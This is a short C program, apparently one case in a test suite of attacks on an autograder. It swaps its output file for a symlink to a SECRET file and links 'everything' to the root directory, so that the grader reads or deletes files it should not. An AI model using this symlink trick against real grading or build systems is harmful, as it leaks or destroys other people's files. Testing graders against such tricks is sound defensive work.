/* Puts in place of its data a link to somebody else's file, for the grader to read or remove. */
#include "attack.h"

int main(int argc, char **argv)
{
    if (argc != 3 || unlink(argv[2]) != 0 || symlink(SECRET, argv[2]) != 0 || symlink("/", "everything") != 0)
        return 1;
    return 0;
}
